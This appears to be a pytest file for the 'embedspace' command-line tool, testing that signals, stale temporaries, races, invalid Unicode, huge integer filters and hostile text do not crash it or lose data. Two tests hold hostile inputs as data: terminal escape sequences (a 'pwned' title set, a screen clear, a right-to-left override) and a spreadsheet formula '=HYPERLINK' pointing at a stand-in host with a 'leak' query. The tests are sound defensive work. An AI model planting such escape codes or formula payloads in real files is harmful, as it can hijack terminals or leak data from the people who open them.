"""Issue 30, finding 9 (the smaller ways to lose data or crash), one test per item.

Signals at start-up and during work, stale temporaries, two embeds racing to one new
path, metadata names the map writes itself, text that is not valid Unicode, integer
filters above 2**53, oversized literals, terminal escape codes and spreadsheet formulas
taken from document text. Like ``test_data_safety.py`` these drive the command line only,
so they run against an older checkout too (``PYTHONPATH=<old tree>``) and fail there.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest

from helpers import assert_one_error_line, assert_success, cli_env, sts_sentences

TEXTS = sts_sentences(60, skip=500)


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    from embedspace.cli import main

    root = tmp_path_factory.mktemp("data-safety-9")
    big = 2 ** 53
    pd.DataFrame({"text": TEXTS[:40], "id": [big + i for i in range(40)],
                  "tag": ["\x1b[31mred\x1b[0m", "plain"] * 20}).to_parquet(root / "docs.parquet")
    assert main(["embed", str(root / "docs.parquet"), "-o", str(root / "docs.set"), "--quiet"]) == 0
    assert main(["index", str(root / "docs.set"), "-o", str(root / "docs.index"), "--quiet"]) == 0
    return root


def _command(*argv) -> list[str]:
    return [sys.executable, "-m", "embedspace.cli", *map(str, argv)]


# --- signals -------------------------------------------------------------------------------
def test_9_sigint_while_importing_prints_one_line_not_a_traceback(tmp_path):
    """Ctrl-C lands while the package is still importing (made certain by an import hook)."""
    launcher = tmp_path / "embedspace"  # the name of the installed program
    launcher.write_text(
        "import os, signal, sys\n"
        "class Interrupt:\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        if name == 'embedspace.errors':\n"
        "            sys.meta_path.remove(self)\n"
        "            os.kill(os.getpid(), signal.SIGINT)\n"
        "        return None\n"
        "sys.meta_path.insert(0, Interrupt())\n"
        "from embedspace.cli import main\n"
        "sys.exit(main())\n"
    )
    done = subprocess.run([sys.executable, str(launcher), "--version"], cwd=tmp_path, env=cli_env(),
                          capture_output=True, text=True, timeout=120)
    assert "Traceback" not in done.stderr, done.stderr
    assert done.stderr.strip() == "error: interrupted"
    assert done.returncode in (130, -signal.SIGINT)


@pytest.mark.slow
def test_9_sigterm_removes_the_temporary_folder_and_exits_143(tmp_path):
    source = tmp_path / "many.txt"
    source.write_text("\n".join(f"{TEXTS[i % 60]} ({i})" for i in range(6000)) + "\n")
    proc = subprocess.Popen(_command("embed", source, "-o", tmp_path / "out.set", "--no-cache", "--quiet"),
                            cwd=tmp_path, env=cli_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and not any(p.name.startswith(".out.set.tmp") for p in tmp_path.iterdir()):
        time.sleep(0.05)
    assert any(p.name.startswith(".out.set.tmp") for p in tmp_path.iterdir()), "no temporary folder appeared"
    time.sleep(0.5)
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 143, (proc.returncode, err)
    assert "Traceback" not in err and err.strip().splitlines()[-1].startswith("error: terminated"), err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["many.txt"]


def _dead_pid() -> int:
    pid = 4_000_000
    while True:
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            return pid
        except PermissionError:
            pass
        pid += 1


def test_9_temporaries_of_dead_processes_are_removed_by_the_next_run(world, tmp_path, cli):
    pid = _dead_pid()
    stale = tmp_path / f".out.set.tmp-{pid}-0123abcd"
    stale.mkdir()
    (stale / "vectors.npy").write_bytes(b"half written" * 1000)
    mine = tmp_path / "keep.tmp-notes.txt"  # a user's file that merely looks alike
    mine.write_text("mine")
    status, out, err = cli("embed", world / "docs.parquet", "-o", tmp_path / "other.set", "--quiet")
    assert_success(status, out, err)
    assert not stale.exists()
    assert mine.read_text() == "mine"


@pytest.mark.slow
def test_9_two_embeds_to_one_new_path_with_overwrite(world, tmp_path):
    for round_ in range(4):
        out = tmp_path / f"new{round_}.set"
        procs = [subprocess.Popen(_command("embed", world / "docs.parquet", "-o", out, "--overwrite", "--quiet"),
                                  cwd=tmp_path, env=cli_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
                 for _ in range(2)]
        for proc in procs:
            _, err = proc.communicate(timeout=300)
            assert proc.returncode == 0, err
        assert pd.read_parquet(out / "table.parquet")["text"].tolist() == TEXTS[:40]
        assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


# --- names the map writes itself -----------------------------------------------------------
@pytest.mark.parametrize("column", ["row", "x", "cluster"])
def test_9_metadata_columns_with_the_maps_own_names_are_refused(column, tmp_path, cli):
    source = tmp_path / "docs.csv"
    pd.DataFrame({"text": TEXTS[:40], column: range(40)}).to_csv(source, index=False)
    status, out, err = cli("map", source, "-o", tmp_path / "out.map", "--quiet")
    assert_one_error_line(status, out, err, repr(column))
    assert not (tmp_path / "out.map").exists()


# --- text that is not valid Unicode --------------------------------------------------------
def test_9_lone_surrogates_in_jsonl_are_replaced_or_refused_under_strict(tmp_path, cli):
    source = tmp_path / "docs.jsonl"
    source.write_text('{"text": "broken \\ud800 half", "note": "x\\udfff"}\n{"text": "a fine line", "note": "y"}\n')
    status, out, err = cli("embed", source, "-o", tmp_path / "out.set", "--quiet")
    assert_success(status, out, err)
    table = pd.read_parquet(tmp_path / "out.set" / "table.parquet")
    assert table["text"].tolist() == ["broken \ufffd half", "a fine line"]
    status, out, err = cli("embed", source, "-o", tmp_path / "strict.set", "--strict", "--quiet")
    assert_one_error_line(status, out, err, "surrogate")


def test_9_undecodable_file_names_are_replaced(tmp_path, cli):
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "fine.txt").write_text(TEXTS[0])
    with open(os.path.join(os.fsencode(folder), b"caf\xe9.txt"), "wb") as handle:
        handle.write(TEXTS[1].encode())
    status, out, err = cli("embed", folder, "-o", tmp_path / "out.set", "--quiet")
    assert_success(status, out, err)
    assert sorted(pd.read_parquet(tmp_path / "out.set" / "table.parquet")["path"]) == ["caf\ufffd.txt", "fine.txt"]


def test_9_a_query_of_undecodable_bytes_is_searched(world, cli):
    query = os.fsdecode(b"caf\xe9 au lait \xff")  # what Python makes of such bytes on the command line
    status, out, err = cli("search", world / "docs.index", query, "--json")
    assert_success(status, out, err)
    assert len(json.loads(out)["queries"][0]["results"]) == 10


# --- integer filters and literals ----------------------------------------------------------
def test_9_integer_filters_compare_exactly_above_2_to_the_53(world, cli):
    for where, expected in ((f"id == {2 ** 53 + 1}", [2 ** 53 + 1]), (f"id in [{2 ** 53 + 3}, {2 ** 53 + 5}]",
                            [2 ** 53 + 3, 2 ** 53 + 5]), (f"id <= {2 ** 53 + 1}", [2 ** 53, 2 ** 53 + 1])):
        status, out, err = cli("search", world / "docs.index", "a question", "-k", 40, "--where", where, "--json")
        assert_success(status, out, err)
        assert sorted(hit["id"] for hit in json.loads(out)["queries"][0]["results"]) == expected, where


@pytest.mark.parametrize("literal", ["9" * 400, "1e400", str(2 ** 64)])
def test_9_an_oversized_literal_is_one_clear_error(literal, world, cli):
    status, out, err = cli("search", world / "docs.index", "a question", "--where", f"id == {literal}")
    assert_one_error_line(status, out, err, "filter")


# --- hostile text stays text ---------------------------------------------------------------
def test_9_search_prints_escape_codes_as_text(world, tmp_path, cli):
    source = tmp_path / "evil.csv"
    pd.DataFrame({"text": ["evil \x1b]0;pwned\x07 \x1b[2J title", "a plain sentence"],
                  "tag\x1b[5m": ["\x1b[31mred", "\u202eright-to-left"]}).to_csv(source, index=False)
    assert cli("embed", source, "-o", tmp_path / "evil.set", "--quiet")[0] == 0
    assert cli("index", tmp_path / "evil.set", "-o", tmp_path / "evil.index", "--quiet")[0] == 0
    status, out, err = cli("search", tmp_path / "evil.index", "title \x1b[2J", "--quiet")
    assert_success(status, out, err)
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\x1b]0;pwned" in out


def test_9_clusters_csv_cells_never_start_a_formula(tmp_path, cli):
    source = tmp_path / "docs.csv"
    formula = ['=HYPERLINK("http://example.invalid/?leak", "click") ' + t for t in TEXTS[:20]]
    pd.DataFrame({"text": formula + ["@SUM(1+1) " + t for t in TEXTS[20:40]]}).to_csv(source, index=False)
    status, out, err = cli("map", source, "-o", tmp_path / "out.map", "--quiet")
    assert_success(status, out, err)
    clusters = pd.read_csv(tmp_path / "out.map" / "clusters.csv", dtype=str, keep_default_na=False)
    cells = [cell for column in clusters.columns for cell in clusters[column]]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_9_half_written_model_exports_of_dead_processes_are_removed(world, tmp_path, cli, monkeypatch):
    """A model export killed midway (``models/NAME.tmp-PID``) is removed by the next run that opens the cache."""
    from helpers import private_cache

    cache = tmp_path / "cache"
    cache.mkdir()
    shared = Path(os.environ["EMBEDSPACE_CACHE_DIR"])
    (cache / "models").mkdir()
    for export in (shared / "models").iterdir():  # the exported model itself, shared by link
        (cache / "models" / export.name).symlink_to(export)
    private_cache(cache)
    pid = _dead_pid()
    half = cache / "models" / f"0123456789abcdef01234567-v1.tmp-{pid}"
    half.mkdir()
    (half / "model.onnx").write_bytes(b"\0" * 4096)
    half_int8 = cache / "models" / f"feedface-v1.tmp-{pid}.onnx"
    half_int8.write_bytes(b"\0" * 4096)
    monkeypatch.setenv("EMBEDSPACE_CACHE_DIR", str(cache))
    status, out, err = cli("embed", world / "docs.parquet", "-o", tmp_path / "out.set", "--quiet")
    assert_success(status, out, err)
    assert not half.exists() and not half_int8.exists()
